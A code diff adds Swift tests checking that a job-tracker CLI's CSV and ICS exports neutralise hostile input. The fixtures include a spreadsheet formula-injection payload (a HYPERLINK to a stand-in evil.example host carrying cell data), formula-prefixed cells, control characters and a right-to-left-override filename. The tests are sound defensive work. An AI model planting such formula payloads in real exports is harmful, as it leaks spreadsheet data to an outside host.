@@ -112,3 +112,55 @@ struct HostileTextTests {
         #expect(s.ok(["export", "json"]).contains("\u{202E}gnp.exe"))
     }
 }
+
+/// Python with the parsers the export tests read with (scripts/setup --tests installs them).
+let pythonParsers: Bool = Sandbox.exec(["python3", "-c", "import icalendar, ical.calendar_stream"], environment: [:], binary: "/usr/bin/env").status == 0
+
+@Suite("Nothing hostile gets through: spreadsheets and calendars", .enabled(if: pythonParsers))
+struct HostileExportTests {
+    static let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Parsers/check_exports.py").path
+
+    func parse(_ kind: String, _ text: String, _ s: Sandbox) -> Output {
+        let path = s.folder + "/export." + kind
+        _ = FileManager.default.createFile(atPath: path, contents: Data(text.utf8))
+        return Sandbox.exec(["python3", HostileExportTests.script, kind, path], environment: [:], binary: "/usr/bin/env")
+    }
+
+    func hostileFile() -> (Sandbox, String) {
+        let s = Sandbox()
+        let app = s.ok(["app", "add", "--employer", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "--role", "@SUM(1+1)"])
+        s.ok(["contact", "add", "--app", app, "--name", "Dana", "--phone", "+1 312 555 0100", "--role", "hiring-manager"])
+        s.ok(["interview", "add", "--app", app, "--at", "2026-11-16T10:00", "--with", "Dana"])
+        s.ok(["log", "note", "--app", app, "--text", "first line\nsecond line, with a comma\r\nthird\rfourth\u{7}bell"])
+        s.ok(["log", "note", "--app", app, "--text", "-2+3"])
+        s.ok(["log", "note", "--app", app, "--text", "+1 312 555 0100"])
+        s.now = "2026-11-16T12:00"
+        return (s, app)
+    }
+
+    @Test("CSV: cells a spreadsheet would evaluate start with an apostrophe, a phone number stays as it is, line breaks quoted; Python's csv reads every row")
+    func csvExport() throws {
+        let (s, _) = hostileFile()
+        let out = parse("csv", s.ok(["export", "csv"]) + "\r\n", s)
+        #expect(out.status == 0, "\(out.stderr)")
+        let rows = try JSONDecoder().decode([[String]].self, from: Data(out.stdout.utf8))
+        #expect(rows.count == 5, "header, one interview, three notes")
+        #expect(rows.allSatisfy { $0.count == rows[0].count })
+        let cells = rows.dropFirst().flatMap { $0 }
+        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("@") || $0.hasPrefix("-") })
+        #expect(cells.contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
+        #expect(cells.contains("'-2+3"))
+        #expect(cells.contains("+1 312 555 0100"))
+        #expect(cells.contains { $0.contains("second line, with a comma") })
+    }
+
+    @Test("ICS: a note's line breaks, bare CR and control characters are escaped or dropped; both a lenient and a strict parser read it")
+    func icsExport() throws {
+        let (s, _) = hostileFile()
+        let ics = s.ok(["export", "ics"]) + "\r\n"
+        #expect(!ics.replacingOccurrences(of: "\r\n", with: "").unicodeScalars.contains { $0 == "\r" || $0 == "\n" || $0.value == 7 })
+        let out = parse("ics", ics, s)
+        #expect(out.status == 0, "\(out.stderr)")
+        #expect(out.stdout.contains("\"strict\": "))
+    }
+}
